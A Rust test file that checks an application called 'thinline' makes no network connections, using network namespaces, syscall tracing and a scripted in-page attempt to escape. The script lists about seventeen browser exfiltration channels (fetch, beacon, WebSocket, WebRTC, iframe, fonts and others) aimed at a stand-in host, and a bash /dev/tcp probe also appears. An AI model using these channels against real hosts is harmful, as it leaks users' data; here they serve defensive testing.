//! No network: the program works without one, and where there is one it opens no connection and looks up no name.

use std::process::Command;

use serde_json::json;
use thinline_tests::harness::{Computer, Planted, Start, Tracer};

use crate::steps::{go, open_own};
use crate::traces::{look_at_the_timeline, prepared};

/// The journey that runs where no network is.
const JOURNEY: &str = "own::an_export_can_be_imported_locked_away_and_undone_and_leaves_no_trace";

/// Brings up the one interface that the driver of the window needs, shows that there is no other and no way out, and goes on.
const INSIDE: &str = "set -e
ip link set lo up
[ \"$(ls /sys/class/net 2>/dev/null | tr -d '[:space:]')\" = lo ] || [ \"$(grep -c : /proc/net/dev)\" = 1 ]
[ -z \"$(ip route show table all type unicast)\" ]
exec \"$@\"";

/// A namespace of its own for the network, or the reason why the kernel gives none.
fn alone() -> Result<Command, String> {
    let isolated = ["--map-root-user", "--net", "--"];
    let tried = Command::new("unshare").args(isolated).arg("true").output();
    let tried = tried.map_err(|error| error.to_string())?;
    if !tried.status.success() {
        return Err(String::from_utf8_lossy(&tried.stderr).trim().to_owned());
    }
    let mut command = Command::new("unshare");
    command.args(isolated).args(["sh", "-c", INSIDE, "inside"]);
    Ok(command)
}

#[test]
fn the_journey_of_an_export_needs_no_network() {
    let mut command = match alone() {
        Ok(command) => command,
        Err(reason) => return eprintln!("left out: the kernel gives no network of its own: {reason}"),
    };
    let test = std::env::current_exe().expect("this test has a path");
    let output = command.arg(test).args([JOURNEY, "--exact", "--nocapture"]).output().expect("it starts");
    let said = String::from_utf8_lossy(&output.stdout) + String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{said}");
    assert!(said.contains("1 passed"), "the journey was not run: {said}");
}

#[test]
fn a_network_of_its_own_has_no_way_out() {
    let Ok(mut command) = alone() else { return eprintln!("left out: see the test of the journey") };
    let tries = "exec 2>&1; exec 3<>/dev/tcp/192.0.2.1/80";
    let output = command.args(["bash", "-c", tries]).output().expect("it starts");
    assert!(String::from_utf8_lossy(&output.stdout).contains("unreachable"), "{output:?}");
}

#[test]
fn an_ordinary_start_opens_no_connection_and_looks_up_no_name() {
    let (other, computer) = (prepared(), prepared());
    let Some(tracer) = Tracer::to(computer.desk().join("calls")) else { return };
    let driven = other.open(Start::default());
    let plain = computer.open_plain_traced(Start::default(), &tracer);
    look_at_the_timeline(&driven, &plain, "network");
    plain.close();
    driven.close();
    let all = tracer.lines();
    assert!(all.iter().any(|line| line.contains("sun_path=")), "the display was reached");
    assert_eq!(tracer.reaches_out(), [""; 0], "of {} calls", all.len());
}

#[test]
fn the_command_line_opens_no_connection_and_looks_up_no_name() {
    let computer = Computer::new();
    let archive = computer.desk().join("my_spotify_data.zip");
    Planted::write(&archive);
    let archive = archive.to_string_lossy().into_owned();
    for arguments in [
        &["init"][..],
        &["import", &archive],
        &["timeline"],
        &["choose", "spotify", "recommendations", "off"],
        &["services"],
        &["profile", "export", "profile.json"],
        &["log", "verify"],
        &["imports", "--undo", "1"],
        &["status"],
    ] {
        let Some(tracer) = Tracer::to(computer.desk().join("calls")) else { return };
        computer.thinline_traced(arguments, &tracer);
        assert_eq!(tracer.reaches_out(), [""; 0], "thinline {}", arguments.join(" "));
    }
}

/// What a script could try to send something away. Each answers or fails by itself; none is waited for.
const ESCAPES: &str = "const tried = [];
const attempt = (name, act) => { try { act(); tried.push(name); } catch (error) { tried.push(name + ': ' + error.name); } };
const add = (tag, fields) => document.head.append(Object.assign(document.createElement(tag), fields));
const away = 'https://planted.example.org/';
attempt('fetch', () => void fetch(away, { mode: 'no-cors' }).catch(() => {}));
attempt('request', () => { const r = new XMLHttpRequest(); r.open('GET', away); r.send(); });
attempt('beacon', () => navigator.sendBeacon(away, 'x'));
attempt('socket', () => new WebSocket('wss://planted.example.org/'));
attempt('events', () => new EventSource(away));
attempt('image', () => { new Image().src = away; });
attempt('style', () => add('link', { rel: 'stylesheet', href: away }));
attempt('script', () => add('script', { src: away }));
attempt('names', () => add('link', { rel: 'dns-prefetch', href: '//names.example.org' }));
attempt('preconnect', () => add('link', { rel: 'preconnect', href: away }));
attempt('prefetch', () => add('link', { rel: 'prefetch', href: away }));
attempt('icon', () => add('link', { rel: 'icon', href: away + 'icon.png' }));
attempt('frame', () => document.body.append(Object.assign(document.createElement('iframe'), { src: away })));
attempt('media', () => { new Audio(away).play().catch(() => {}); });
attempt('font', () => { const f = new FontFace('planted', 'url(' + away + ')'); f.load().catch(() => {}); });
attempt('peer', () => { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:planted.example.org' }] });
    p.createDataChannel('x'); p.createOffer().then((offer) => p.setLocalDescription(offer)); });
attempt('worker', () => new Worker(away));
return tried;";

#[test]
fn a_page_gone_wrong_reaches_no_network() {
    let computer = Computer::new();
    let Some(tracer) = Tracer::to(computer.desk().join("calls")) else { return };
    let window = computer.open(Start { tracer: Some(tracer.clone()), ..Start::default() });
    open_own(&window);
    let tried = window.execute(ESCAPES, json!([]));
    assert!(tried.as_array().is_some_and(|tried| tried.len() == 17), "{tried}");
    // Long enough for a name to be looked up and a connection to be tried.
    std::thread::sleep(std::time::Duration::from_secs(3));
    go(&window, "settings");
    window.close();
    // The driver itself is reached on this computer; an ordinary start has none.
    let driver = |line: &String| {
        line.contains("inet_addr(\"127.0.0.1\")") || line.contains("socket(AF_INET, SOCK_STREAM")
    };
    let mut out = tracer.reaches_out();
    out.retain(|line| !driver(line));
    assert_eq!(out, [""; 0], "tried {tried}");
}
